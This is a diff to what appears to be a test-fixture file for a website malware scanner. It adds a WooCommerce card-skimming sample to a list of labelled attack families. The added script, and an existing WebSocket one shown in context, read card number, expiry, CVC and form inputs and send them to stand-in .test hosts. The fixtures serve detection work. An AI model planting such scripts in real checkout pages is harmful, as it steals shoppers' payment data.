@@ -175,6 +175,12 @@ SKIM_SOCKET = (
     "<script>(function(){var ws=new WebSocket('wss://stats-cdn-analytics.test/ws');document"
     ".querySelectorAll('input').forEach(function(i){i.addEventListener('change',function(){"
     "ws.send(JSON.stringify({n:i.name,v:i.value,h:location.host}));});});})();</script>")
+SKIM_FETCH = (
+    "<script>jQuery(function($){$('#place_order').on('click',function(){var d={n:$("
+    "'#billing_first_name').val(),c:document.getElementById('stripe-card-number').value,e:"
+    "document.getElementById('stripe-card-expiry').value,v:document.getElementById("
+    "'stripe-card-cvc').value};fetch('https://woo-payments-cdn.test/api/v2/log',{method:"
+    "'POST',mode:'no-cors',body:JSON.stringify(d)});});});</script>")
 PUSH_BAIT = (
     '<div style="position:fixed;inset:0;z-index:99999"><h1>Click "Allow" to confirm that '
     "you are not a robot</h1></div><script>Notification.requestPermission().then(function"
@@ -225,6 +231,8 @@ FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
     ("Magecart sendBeacon on submit", {"footer": SKIM_BEACON}, ("form-skimmer", H)),
     ("Magecart image address on checkout click", {"footer": SKIM_IMAGE}, ("form-skimmer", H)),
     ("Magecart WebSocket on change", {"footer": SKIM_SOCKET}, ("form-skimmer", H)),
+    ("Magecart fetch POST of card fields on a WooCommerce checkout", {"footer": SKIM_FETCH},
+     ("form-skimmer", H)),
     ("push 'click Allow, not a robot' bait", {"body_top": PUSH_BAIT}, ("notification-bait", H)),
     ("SEO casino links off-screen, wp_footer", {"footer": CASINO_LINKS}, ("hidden-links", H)),
     ("SEO links at font-size 0, in the post", {"post": PHARMA_FONT0}, ("hidden-links", H)),
